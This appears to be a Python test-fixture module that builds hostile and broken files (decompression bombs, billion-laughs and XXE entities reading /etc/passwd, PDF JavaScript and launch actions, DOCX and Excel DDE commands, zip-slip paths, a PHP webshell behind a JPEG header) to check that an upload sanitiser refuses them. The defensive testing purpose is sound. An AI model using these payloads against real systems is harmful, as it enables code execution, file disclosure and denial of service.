"""Hostile and broken files, built here. `REFUSED` says what the sentence has to name, `HARMLESS` how it shows that what
is kept can do nothing."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.files import making

Build = Callable[[], bytes]
MB = 1024 * 1024
ZEROS = b"\0" * 64
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)
QUADRATIC = f'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "{"A" * 50_000}">]><q>{"&a;" * 50_000}</q>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://127.0.0.1:9/x.dtd">%a;]><x/>'


# Names of another kind: each content under each other ending.


def wrong_endings() -> dict[str, tuple[str, Build, str]]:
    found = {}
    for name, build in making.SOUND.items():
        for other in making.SOUND:
            ending = other.rpartition(".")[2]
            if ending != name.rpartition(".")[2]:
                said = f"its name ends with “.{ending}”"
                found[f"{name.rpartition('.')[2]}_named_{ending}"] = (f"file.{ending}", build, said)
    return found


def other_kinds() -> dict[str, tuple[str, Build, str]]:
    contents = {
        "windows_program": (b"MZ\x90\0\x03\0\0\0" + ZEROS, "a program"),
        "linux_program": (b"\x7fELF\x02\x01\x01\0" + ZEROS, "a program"),
        "mac_program": (b"\xcf\xfa\xed\xfe\x07\0\0\x01" + ZEROS, "a program"),
        "java_class": (b"\xca\xfe\xba\xbe\0\0\0\x34" + ZEROS, "a program"),
        "gif": (b"GIF89a\x01\0\x01\0" + ZEROS, "a GIF picture"),
        "bmp": (b"BM\x46\0\0\0" + ZEROS, "a BMP picture"),
        "tiff": (b"II*\0\x08\0\0\0" + ZEROS, "a TIFF picture"),
        "big_endian_tiff": (b"MM\0*\0\0\0\x08" + ZEROS, "a TIFF picture"),
        "webp": (b"RIFF\x24\0\0\0WEBPVP8 " + ZEROS, "a WebP picture"),
        "heic": (b"\0\0\0\x18ftypheic\0\0\0\0" + ZEROS, "a HEIC picture"),
        "film": (b"\0\0\0\x18ftypisom\0\0\0\0" + ZEROS, "a film"),
        "gzip": (b"\x1f\x8b\x08\0" + ZEROS, "a packed archive"),
        "seven_zip": (b"7z\xbc\xaf'\x1c" + ZEROS, "a packed archive"),
        "rar": (b"Rar!\x1a\x07\x01\0" + ZEROS, "a packed archive"),
        "bzip2": (b"BZh91AY&SY" + ZEROS, "a packed archive"),
        "xz": (b"\xfd7zXZ\0" + ZEROS, "a packed archive"),
        "noise": (bytes(range(256)) * 4, "of a kind that we do not know"),
        "wide_text_marked": ("\ufeffhello there".encode("utf-16-le"), "not saved as UTF-8"),
        "wide_text_big_endian": ("\ufeffhello there".encode("utf-16-be"), "not saved as UTF-8"),
        "wide_text_unmarked": ("hello there".encode("utf-16-le"), "not saved as UTF-8"),
        "widest_text": ("hello there".encode("utf-32-le"), "not saved as UTF-8"),
    }
    found = {name: ("file.pdf", partial(bytes, content), said) for name, (content, said) in contents.items()}
    found |= {
        "legacy_word": ("letter.docx", lambda: OLE, "an older Office file"),
        "legacy_excel": ("budget.xlsx", lambda: OLE + b"Workbook", "an older Office file"),
        "word_with_password": ("letter.docx", lambda: OLE + b"EncryptedPackage", "one with a password"),
        "plain_zip": ("letter.docx", lambda: making.packed({"a.txt": "a"}), "a zip archive"),
        "presentation": (
            "talk.docx",
            lambda: making.packed({"[Content_Types].xml": making.types("x", "/ppt/a.xml"), "ppt/a.xml": "<a/>"}),
            "a presentation",
        ),
        "java_archive": (
            "letter.odt",
            lambda: making.packed({"META-INF/MANIFEST.MF": "Main-Class: a", "a.class": b"\xca\xfe\xba\xbe"}),
            "a zip archive",
        ),
        "book": ("book.odt", lambda: making.packed({"mimetype": "application/epub+zip"}), "a zip archive"),
        "presentation_template_odf": (
            "talk.odt",
            lambda: making.packed({"mimetype": "application/vnd.oasis.opendocument.presentation"}),
            "a zip archive",
        ),
        "program_with_zip_behind": ("letter.docx", lambda: b"MZ\x90\0" + ZEROS + making.docx(), "a program"),
    }
    return found


def endings_not_taken() -> dict[str, tuple[str, Build, str]]:
    texts = {
        "html": "<script>alert(1)</script>",
        "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "xml": OUTSIDE,
        "js": "alert(1)",
        "csv": "=cmd|' /C calc'!A0",
        "bat": "del *",
        "ps1": "iex",
        "hta": "<hta:application>",
        "rtf": "{\\rtf1 {\\object}}",
        "url": "[InternetShortcut]\nURL=file://host",
        "desktop": "[Desktop Entry]\nExec=sh",
        "vbs": "Execute",
        "eml": "From: a",
        "exe": "not even a program",
        "docm": "words",
        "lnk": "words",
        "htaccess": "AddType application/x-httpd-php .txt",
    }
    found = {
        f"text_named_{ending}": (f"file.{ending}", partial(str.encode, text), f"Its name ends with “.{ending}”")
        for ending, text in texts.items()
    }
    return found | {
        "two_endings": ("letter.pdf.exe", making.pdf, "has no ending that says so"),
        "hidden_by_direction": ("letter\u202efdp.exe", making.pdf, "has no ending that says so"),
        "no_ending": ("letter", making.pdf, "Rename it to end with .pdf"),
        "only_an_ending": (".pdf", making.pdf, "Rename it to end with .pdf"),
        "no_name": ("\u202e", making.pdf, "The file has no name"),
        "only_dots": ("....", making.pdf, "The file has no name"),
        "only_a_folder": ("../", making.pdf, "The file has no name"),
        "macro_document_by_name": ("letter.docm", making.docx, "has no ending that says so"),
        "macro_sheet_by_name": ("budget.xlsm", making.xlsx, "has no ending that says so"),
    }


# Text


TEXTS = {
    "empty": ("note.txt", lambda: b"", "The file is empty"),
    "empty_pdf": ("letter.pdf", lambda: b"", "The file is empty"),
    "only_spaces": ("note.txt", lambda: b" \n\t\n", "The file is empty"),
    "only_a_mark": ("note.txt", lambda: b"\xef\xbb\xbf", "The file is empty"),
    "null_in_text": ("note.txt", lambda: b"a" * 200 + b"\0", "of a kind that we do not know"),
    "escape_in_text": ("note.txt", lambda: b"a\n\x1b]0;title\x07", "Line 2 of the text holds a hidden control"),
    "bell_in_text": ("note.txt", lambda: b"a\x07", "hidden control character"),
    "delete_in_text": ("note.txt", lambda: b"a\x7f", "hidden control character"),
    "vertical_tab_in_text": ("note.txt", lambda: b"a\x0b", "hidden control character"),
    "backspace_in_text": ("note.txt", lambda: b"rm\x08\x08", "hidden control character"),
    "c1_control_in_text": ("note.txt", lambda: "a\x9b31m".encode(), "hidden control character"),
    "latin_1": ("note.txt", lambda: "Universität".encode("latin-1") * 3, "of a kind that we do not know"),
    "overlong_utf8": ("note.txt", lambda: b"a\xc0\xaf..", "of a kind that we do not know"),
    "surrogates_in_utf8": ("note.txt", lambda: b"a\xed\xa0\x80", "of a kind that we do not know"),
    "larger_than_taken": ("note.txt", lambda: b"a" * (20 * MB + 1), "is more than the 20 MB we can keep"),
}


# Pictures


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, data: bytes = b"", more: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", data or zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def jpeg_of_size(width: int, height: int) -> bytes:
    content = bytearray(making.picture("JPEG"))
    place = content.index(b"\xff\xc0") + 5
    content[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def cut(build: Build, share: float = 0.5) -> bytes:
    content = build()
    return content[: int(len(content) * share)]


def wrong_sum() -> bytes:
    content = bytearray(making.picture())
    content[content.index(b"IDAT") + 8] ^= 0xFF
    return bytes(content)


def bombed_text() -> bytes:
    return png(
        40,
        30,
        zlib.compress((b"\0" + b"\x80" * 120) * 30),
        chunk(b"zTXt", b"Author\0\0" + zlib.compress(b"A" * 80_000_000, 9)),
    )


PICTURES = {
    "png_flood": ("plan.png", lambda: png(100_000, 100_000), "more than 24 million pixels"),
    "png_flood_of_one_line": ("plan.png", lambda: png(2_000_000_000, 1), "more than 24 million pixels"),
    "png_long_side": ("plan.png", lambda: png(30_000, 10), "more than 24 million pixels"),
    "jpeg_flood": ("photo.jpg", lambda: jpeg_of_size(65_000, 65_000), "more than 24 million pixels"),
    "png_that_unpacks_to_much": (
        "plan.png",
        lambda: png(6_000, 5_000, zlib.compress(b"\0" * 90_000_000, 9)),
        "more than 24 million pixels",
    ),
    "png_cut": ("plan.png", lambda: cut(making.picture), "The picture is damaged or breaks off"),
    "jpeg_cut": ("photo.jpg", lambda: cut(making.photo, 0.8), "The picture is damaged or breaks off"),
    "png_sign_only": ("plan.png", lambda: b"\x89PNG\r\n\x1a\n", "The picture is damaged or breaks off"),
    "jpeg_sign_only": ("photo.jpg", lambda: b"\xff\xd8\xff\xe0", "The picture is damaged or breaks off"),
    "png_wrong_sum": ("plan.png", wrong_sum, "The picture is damaged or breaks off"),
    "png_no_pixels": ("plan.png", lambda: png(0, 0), "The picture is damaged or breaks off"),
    "png_garbage_inside": ("plan.png", lambda: png(40, 30, b"no zlib"), "The picture is damaged or breaks off"),
    "png_endless_chunk": (
        "plan.png",
        lambda: png(40, 30)[:33] + struct.pack(">I", 0x7FFFFFFF) + b"IDAT",
        "The picture is damaged or breaks off",
    ),
    "png_text_that_unpacks_to_much": ("plan.png", bombed_text, "The picture is damaged"),
    "script_that_begins_as_jpeg": (
        "photo.jpg",
        lambda: b"\xff\xd8\xff<?php system($_GET[0]); ?>",
        "The picture is damaged or breaks off",
    ),
}


def moving_png() -> bytes:
    first, second = Image.new("RGB", (20, 20), "red"), Image.new("RGB", (20, 20), "blue")
    target = io.BytesIO()
    first.save(target, "PNG", save_all=True, append_images=[second])
    return target.getvalue()


def two_in_one_jpeg() -> bytes:
    first, second = Image.new("RGB", (20, 20), "red"), Image.new("RGB", (20, 20), "blue")
    target = io.BytesIO()
    first.save(target, "MPO", save_all=True, append_images=[second])
    return target.getvalue()


# PDF


def pdf_with(**root) -> bytes:
    def change(document):
        for name, value in root.items():
            document.Root[f"/{name}"] = value(document) if callable(value) else value

    return making.pdf(change)


def pdf_with_action(**action) -> bytes:
    """An action behind a link on the page."""

    def change(document):
        told = Dictionary(**{name: value(document) if callable(value) else value for name, value in action.items()})
        mark = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=document.make_indirect(told))
        document.pages[0].obj.Annots = Array([document.make_indirect(mark)])

    return making.pdf(change)


def pdf_with_mark(subtype: str, **more) -> bytes:
    def change(document):
        mark = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=Array([0, 0, 9, 9]), **more)
        document.pages[0].obj.Annots = Array([mark])

    return making.pdf(change)


def script(document=None):
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def pdf_with_file() -> bytes:
    def change(document):
        document.attachments["tool.exe"] = b"MZ program"

    return making.pdf(change)


def pdf_with_page_script() -> bytes:
    def change(document):
        document.pages[0].obj.AA = Dictionary(O=script())

    return making.pdf(change)


def pdf_with_field_script() -> bytes:
    def change(document):
        field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()))
        field.Rect = Array([0, 0, 9, 9])
        field = document.make_indirect(field)
        document.pages[0].obj.Annots = Array([field])
        document.Root.AcroForm = Dictionary(Fields=Array([field]))

    return making.pdf(change)


def pdf_with_outer_stream() -> bytes:
    def change(document):
        stream = document.make_stream(b"q Q")
        stream.F = Dictionary(Type=Name.Filespec, F=String("//host/share/x"))
        document.pages[0].obj.Contents = stream

    return making.pdf(change)


def locked(**given) -> bytes:
    return making.pdf(encryption=pikepdf.Encryption(**given))


def pdf_with_loop() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def pdf_deep() -> bytes:
    return b"%PDF-1.4\n1 0 obj" + b"[" * 200_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def pdf_with_bombed_objects() -> bytes:
    """An object stream of a few kilobytes that unpacks to two gigabytes."""
    packer = zlib.compressobj(9)
    data = packer.compress(b"1 0 <</Type/Catalog/Pages 3 0 R>>")
    part = b" " * MB
    for _ in range(2000):
        data += packer.compress(part)
    data += packer.flush()
    head = b"%PDF-1.5\n"
    body = b"2 0 obj<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>stream\n" % len(data)
    stream = body + data + b"\nendstream endobj\n"
    table_at = len(head) + len(stream)
    rows = b"\0\0\0\0\0" + b"\x02\0\x02\0\0" + b"\x01" + struct.pack(">H", len(head)) + b"\0\0" + b"\0\0\0\0\0"
    table = b"4 0 obj<</Type/XRef/Size 4/W[1 2 2]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return head + stream + table + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % table_at


PDFS = {
    "pdf_cut": ("letter.pdf", lambda: cut(making.pdf, 0.2), "The PDF is damaged or breaks off"),
    "pdf_sign_only": ("letter.pdf", lambda: b"%PDF-1.7\n", "The PDF is damaged or breaks off"),
    "pdf_without_pages": ("letter.pdf", lambda: making.saved(pikepdf.new()), "The PDF is damaged"),
    "pdf_of_words": ("letter.pdf", lambda: b"%PDF-1.7 a page of the register", "The PDF is damaged"),
    "pdf_page_in_itself": ("letter.pdf", pdf_with_loop, "The PDF is damaged"),
    "pdf_nested_deep": ("letter.pdf", pdf_deep, "The PDF is damaged"),
    "pdf_password": ("letter.pdf", lambda: locked(owner="a", user="b"), "protected by a password"),
    "pdf_password_of_owner": ("letter.pdf", lambda: locked(owner="a", user=""), "protected by a password"),
    "pdf_old_encryption": (
        "letter.pdf",
        lambda: locked(owner="a", user="b", R=3, aes=False, metadata=False),
        "protected",
    ),
    "pdf_xfa": (
        "form.pdf",
        lambda: pdf_with(AcroForm=lambda document: Dictionary(Fields=Array(), XFA=document.make_stream(b"<xdp/>"))),
        "is a form (XFA) that builds itself",
    ),
    "pdf_bombed_objects": ("letter.pdf", pdf_with_bombed_objects, "The PDF is damaged"),
    "html_that_begins_as_pdf": ("letter.pdf", lambda: b"%PDF-1.7<script>alert(1)</script>", "The PDF is damaged"),
}
ACTIVE_PDFS: dict[str, tuple[Build, bytes, str]] = {
    # what it is: how it is built, what may be in it no more, what the page says was left out
    "opening_script": (lambda: pdf_with(OpenAction=script), b"app.alert", "actions"),
    "named_script": (
        lambda: pdf_with(Names=lambda d: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
        b"app.alert",
        "scripts",
    ),
    "page_script": (pdf_with_page_script, b"app.alert", "actions"),
    "field_script": (pdf_with_field_script, b"app.alert", "actions"),
    "document_script": (lambda: pdf_with(AA=Dictionary(WC=script())), b"app.alert", "actions"),
    "link_script": (lambda: pdf_with_action(S=Name.JavaScript, JS=String("app.alert(1)")), b"app.alert", "scripts"),
    "next_script": (
        lambda: pdf_with_action(S=Name.URI, URI=String("https://a.example"), Next=script),
        b"app.alert",
        "scripts",
    ),
    "script_as_stream": (
        lambda: pdf_with_action(S=Name.JavaScript, JS=lambda d: d.make_stream(b"app.alert(1)")),
        b"/JavaScript",
        "scripts",
    ),
    "script_in_packed_objects": (
        lambda: making.pdf(
            lambda d: d.Root.__setitem__("/OpenAction", d.make_indirect(script())),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        b"app.alert",
        "actions",
    ),
    "launch": (lambda: pdf_with_action(S=Name.Launch, F=String("cmd.exe")), b"cmd.exe", "actions"),
    "go_to_file": (lambda: pdf_with_action(S=Name.GoToR, F=String("//host/a.pdf"), D=Array([0])), b"//host", "actions"),
    "go_to_file_inside": (lambda: pdf_with_action(S=Name.GoToE, F=String("b.pdf")), b"b.pdf", "actions"),
    "send_form": (lambda: pdf_with_action(S=Name.SubmitForm, F=String("http://a.example")), b"a.example", "actions"),
    "import_data": (lambda: pdf_with_action(S=Name.ImportData, F=String("a.fdf")), b"a.fdf", "actions"),
    "play_film": (lambda: pdf_with_action(S=Name.Rendition, JS=String("app.alert(1)")), b"app.alert", "media"),
    "link_with_script": (
        lambda: pdf_with_action(S=Name.URI, URI=String("javascript:alert(1)")),
        b"javascript:",
        "links",
    ),
    "link_to_file": (lambda: pdf_with_action(S=Name.URI, URI=String("file:///etc/passwd")), b"passwd", "links"),
    "link_to_share": (lambda: pdf_with_action(S=Name.URI, URI=String(r"\\host\share")), b"share", "links"),
    "file_inside": (pdf_with_file, b"tool.exe", "files_inside"),
    "file_on_page": (
        lambda: pdf_with_mark("FileAttachment", FS=Dictionary(F=String("tool.exe"))),
        b"tool.exe",
        "files_inside",
    ),
    "rich_media": (lambda: pdf_with_mark("RichMedia", NM=String("flash.swf")), b"flash.swf", "media"),
    "film": (lambda: pdf_with_mark("Movie", T=String("film.mov")), b"film.mov", "media"),
    "screen": (lambda: pdf_with_mark("Screen", T=String("film.mov")), b"film.mov", "media"),
    "sound": (lambda: pdf_with_mark("Sound", T=String("sound.au")), b"sound.au", "media"),
    "solid": (lambda: pdf_with_mark("3D", T=String("part.u3d")), b"part.u3d", "media"),
    "file_of_document": (
        lambda: pdf_with(AF=lambda d: Array([d.make_indirect(Dictionary(Type=Name.Filespec, F=String("tool.exe")))])),
        b"tool.exe",
        "files_inside",
    ),
    "stream_from_elsewhere": (pdf_with_outer_stream, b"//host", "actions"),
    "author": (making.pdf, b"Ana Duarte", "metadata"),
    "described": (lambda: pdf_with(Metadata=lambda d: d.make_stream(b"<x>Ana Duarte</x>")), b"Ana Duarte", "metadata"),
    "left_by_a_program": (lambda: pdf_with(PieceInfo=Dictionary(A=String("C:/Users/ana"))), b"C:/Users", "metadata"),
    "zip_behind": (lambda: making.pdf() + making.packed({"a.txt": "zipped away"}), b"PK\x03\x04", ""),
    "html_behind": (lambda: making.pdf() + b"<script>alert(1)</script>", b"<script>", ""),
    "html_between": (
        lambda: making.pdf().replace(b"\n1 0 obj", b"\n%<script>alert(1)</script>\n1 0 obj", 1),
        b"<script>",
        "",
    ),
}


# Office documents


def field(*pieces: str) -> str:
    told = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{told}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def linked_docx(kind: str, target: str) -> bytes:
    return making.docx(**{"word___rels__document_dot_xml_dot_rels": making.relations((kind, target, "External"))})


def with_members(members: dict, extra: list[tuple[str, bytes]], **changes) -> bytes:
    """A document with members that no program would write, such as one of another name twice."""
    target = io.BytesIO(making.packed(members))
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in extra:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            for key, value in changes.items():
                setattr(info, key, value)
            package.writestr(info, content)
    return target.getvalue()


def docx_and(name: str, content: bytes = b"x", **changes) -> bytes:
    return with_members(making.docx_members(), [(name, content)], **changes)


def marked_locked() -> bytes:
    """Sets the bit that says a member is encrypted, in its own head and in the directory."""
    content = bytearray(making.docx())
    place = 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:
        if content[place + 46 : place + 63] == b"word/document.xml":
            content[place + 8] |= 1
        place += 4
    return bytes(content)


def overlapping() -> bytes:
    """Two entries of the directory point to one and the same member, which a bomb does a thousand times."""
    content = making.docx()
    first = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    name = b"word/again.xml"
    entry = bytearray(content[first:end])
    length = struct.unpack("<H", entry[28:30])[0]
    entry = entry[: 46 + length]
    struct.pack_into("<H", entry, 28, len(name))
    entry = entry[:46] + name
    tail = bytearray(content[end:])
    count = struct.unpack("<H", tail[10:12])[0] + 1
    struct.pack_into("<HH", tail, 8, count, count)
    struct.pack_into("<I", tail, 12, end - first + len(entry))
    return content[:end] + bytes(entry) + bytes(tail)


def packed_by(method: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as package:
        for name, content in making.docx_members().items():
            package.writestr(name, content)
    return target.getvalue()


MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
TEMPLATE = making.WORD.replace("document.main", "template.main")
VBA = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
OFFICE = {
    "docx_cut": ("letter.docx", lambda: cut(making.docx), "a damaged zip archive or Office document"),
    "xlsx_cut": ("budget.xlsx", lambda: cut(making.xlsx, 0.9), "a damaged zip archive or Office document"),
    "odt_cut": ("letter.odt", lambda: cut(making.odt, 0.7), "a damaged zip archive or Office document"),
    "zip_sign_only": ("letter.docx", lambda: b"PK\x03\x04", "a damaged zip archive or Office document"),
    "macro_word": ("letter.docx", lambda: making.docx(main=MACRO_WORD), "holds macros or scripts"),
    "macro_sheet": ("budget.xlsx", lambda: making.xlsx(main=MACRO_SHEET), "holds macros or scripts"),
    "macro_project": ("letter.docx", lambda: making.docx(word__vbaProject_dot_bin=b"x"), "holds macros or scripts"),
    "macro_project_elsewhere": ("letter.docx", lambda: docx_and("a/VBAPROJECT.BIN"), "holds macros or scripts"),
    "macro_project_by_type": (
        "letter.docx",
        lambda: making.docx(**{"[Content_Types]_dot_xml": making.types(making.WORD, "/word/document.xml", VBA)}),
        "holds macros or scripts",
    ),
    "macro_project_by_relation": (
        "letter.docx",
        lambda: making.docx(**{"word___rels__document_dot_xml_dot_rels": making.relations(("vbaProject", "a.bin"))}),
        "holds macros or scripts",
    ),
    "active_control": ("letter.docx", lambda: docx_and("word/activeX/activeX1.xml"), "holds macros or scripts"),
    "ribbon": ("letter.docx", lambda: docx_and("customUI/customUI.xml"), "holds macros or scripts"),
    "old_macro_sheet": (
        "budget.xlsx",
        lambda: making.xlsx(xl__macrosheets__sheet1_dot_xml="<a/>"),
        "holds macros or scripts",
    ),
    "word_template": ("letter.docx", lambda: making.docx(main=TEMPLATE), "does not say of itself"),
    "no_main_part": ("letter.docx", lambda: making.docx(main="application/xml"), "does not say of itself"),
    "ole_inside": ("letter.docx", lambda: docx_and("word/embeddings/oleObject1.bin", OLE), "has another file inside"),
    "ole_elsewhere": ("letter.docx", lambda: docx_and("word/media/image1.png", OLE), "has another file inside"),
    "package_inside": (
        "letter.docx",
        lambda: docx_and("word/embeddings/sheet.xlsx", making.xlsx()),
        "has another file inside",
    ),
    "zip_in_zip": ("letter.docx", lambda: docx_and("word/media/image1.png", making.docx()), "has another file inside"),
    "program_inside": ("letter.docx", lambda: docx_and("word/media/image1.png", b"MZ\x90\0"), "has a program inside"),
    "chunk_of_html": (
        "letter.docx",
        lambda: making.docx('<w:altChunk r:id="rId9" xmlns:r="r"/>'),
        "another file inside",
    ),
    "dde": ("letter.docx", lambda: making.docx(field("DDE cmd /c calc")), "would fetch something from elsewhere"),
    "dde_in_pieces": ("letter.docx", lambda: making.docx(field("DD", "EAU", "TO c:\\a.exe")), "would fetch something"),
    "dde_in_lower_case": ("letter.docx", lambda: making.docx(field(" ddeauto x")), "would fetch something"),
    "dde_by_character": ("letter.docx", lambda: making.docx(field("D&#68;E x")), "would fetch something"),
    "dde_simple": (
        "letter.docx",
        lambda: making.docx('<w:p><w:fldSimple w:instr="DDEAUTO x"/></w:p>'),
        "would fetch something",
    ),
    "dde_worked_out": (
        "letter.docx",
        lambda: making.docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field("QUOTE 68 68 69") + "</w:p>"),
        "would fetch something",
    ),
    "dde_without_end": (
        "letter.docx",
        lambda: making.docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r></w:p>'),
        "would fetch something",
    ),
    "dde_in_header": (
        "letter.docx",
        lambda: making.docx(word__header1_dot_xml=f'<w:hdr xmlns:w="{making.W}">{field("DDE x")}</w:hdr>'),
        "would fetch something",
    ),
    "picture_field": ("letter.docx", lambda: making.docx(field("INCLUDEPICTURE http://a.example/x")), "would fetch"),
    "text_field": ("letter.docx", lambda: making.docx(field('INCLUDETEXT "c:\\a.txt"')), "would fetch something"),
    "link_field": ("letter.docx", lambda: making.docx(field("LINK Excel.Sheet a.xlsx")), "would fetch something"),
    "macro_button": ("letter.docx", lambda: making.docx(field("MACROBUTTON a b")), "would fetch something"),
    "picture_elsewhere": (
        "letter.docx",
        lambda: linked_docx("image", "http://a.example/x.png"),
        "would fetch something",
    ),
    "object_elsewhere": (
        "letter.docx",
        lambda: linked_docx("oleObject", "http://a.example/x"),
        "would fetch something",
    ),
    "frame_elsewhere": ("letter.docx", lambda: linked_docx("frame", "http://a.example/x"), "would fetch something"),
    "part_elsewhere": ("letter.docx", lambda: linked_docx("subDocument", "file:///c:/a.docx"), "would fetch something"),
    "dde_formula": ("budget.xlsx", lambda: making.xlsx("<c><f>cmd|' /C calc'!A0</f></c>"), "would fetch something"),
    "dde_formula_by_character": (
        "budget.xlsx",
        lambda: making.xlsx("<c><f>cmd&#124;' /C calc'!A0</f></c>"),
        "would fetch something",
    ),
    "dde_formula_as_data": (
        "budget.xlsx",
        lambda: making.xlsx("<c><f><![CDATA[msexcel|'a'!'b']]></f></c>"),
        "would fetch something",
    ),
    "web_formula": (
        "budget.xlsx",
        lambda: making.xlsx('<c><f>_xlfn.WEBSERVICE("http://a.example/"&amp;A1)</f></c>'),
        "would fetch something",
    ),
    "register_formula": ("budget.xlsx", lambda: making.xlsx("<c><f>REGISTER.ID(1)</f></c>"), "would fetch something"),
    "named_formula": (
        "budget.xlsx",
        lambda: making.xlsx(
            xl__workbook_dot_xml=f'<workbook xmlns="{making.S}"><definedNames><definedName name="a">EXEC("calc")'
            "</definedName></definedNames></workbook>"
        ),
        "would fetch something",
    ),
    "other_workbook": (
        "budget.xlsx",
        lambda: making.xlsx(xl__externalLinks__externalLink1_dot_xml="<a/>"),
        "has another file inside",
    ),
    "data_connection": ("budget.xlsx", lambda: making.xlsx(xl__connections_dot_xml="<a/>"), "another file inside"),
    "laughs_in_docx": ("letter.docx", lambda: making.docx(word__document_dot_xml=LAUGHS), "declares a document type"),
    "laughs_in_types": (
        "letter.docx",
        lambda: making.docx(**{"[Content_Types]_dot_xml": LAUGHS}),
        "declares a document",
    ),
    "laughs_in_relations": ("letter.docx", lambda: making.docx(_rels___dot_rels=LAUGHS), "declares a document type"),
    "laughs_in_xlsx": ("budget.xlsx", lambda: making.xlsx(xl__workbook_dot_xml=LAUGHS), "declares a document type"),
    "quadratic_in_docx": ("letter.docx", lambda: making.docx(word__document_dot_xml=QUADRATIC), "declares a document"),
    "outside_entity_in_docx": (
        "letter.docx",
        lambda: making.docx(word__document_dot_xml=OUTSIDE),
        "declares a document",
    ),
    "outside_entity_in_xlsx": ("budget.xlsx", lambda: making.xlsx(xl__workbook_dot_xml=OUTSIDE), "declares a document"),
    "parameter_entity": ("letter.docx", lambda: making.docx(word__document_dot_xml=PARAMETER), "declares a document"),
    "wide_xml": (
        "letter.docx",
        lambda: making.docx(word__document_dot_xml='<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")),
        "A part of the document can't be read",
    ),
    "deep_xml": (
        "letter.docx",
        lambda: making.docx(word__document_dot_xml="<a>" * 5000 + "</a>" * 5000),
        "A part of the document can't be read",
    ),
    "broken_xml": ("letter.docx", lambda: making.docx(word__document_dot_xml="<a><b></a>"), "can't be read"),
    "slip_up": ("letter.docx", lambda: docx_and("../../etc/cron.d/x"), "would unpack outside of it"),
    "slip_inside_path": ("letter.docx", lambda: docx_and("word/../../x"), "would unpack outside of it"),
    "slip_absolute": ("letter.docx", lambda: docx_and("/etc/passwd"), "would unpack outside of it"),
    "slip_backslash": ("letter.docx", lambda: docx_and("word\\..\\..\\x"), "would unpack outside of it"),
    "slip_drive": ("letter.docx", lambda: docx_and("C:/x"), "would unpack outside of it"),
    "slip_link": (
        "letter.docx",
        lambda: docx_and("word/x", b"/etc/passwd", external_attr=0o120777 << 16),
        "outside of it",
    ),
    "part_twice": ("letter.docx", lambda: docx_and("word/document.xml", b"<a/>"), "holds one part twice"),
    "part_twice_by_case": ("letter.docx", lambda: docx_and("Word/Document.XML", b"<a/>"), "holds one part twice"),
    "bomb_of_one_part": ("letter.docx", lambda: docx_and("word/a.xml", b"0" * (60 * MB)), "far larger than it looks"),
    "bomb_of_many_parts": (
        "letter.docx",
        lambda: with_members(making.docx_members(), [(f"word/{n}.xml", b"0" * (4 * MB)) for n in range(40)]),
        "far larger than it looks",
    ),
    "bomb_of_shared_bytes": ("letter.docx", overlapping, "far larger than it looks"),
    "bomb_in_a_picture": ("letter.docx", lambda: docx_and("word/media/a.png", b"\0" * (50 * MB)), "far larger"),
    "too_many_parts": (
        "letter.docx",
        lambda: with_members(making.docx_members(), [(f"word/{n}.xml", b"<a/>") for n in range(2100)]),
        "packed of more than 2000 parts",
    ),
    "part_with_password": ("letter.docx", marked_locked, "protected by a password"),
    "packed_by_bzip2": ("letter.docx", lambda: packed_by(zipfile.ZIP_BZIP2), "The document is damaged"),
    "packed_by_lzma": ("letter.docx", lambda: packed_by(zipfile.ZIP_LZMA), "The document is damaged"),
}
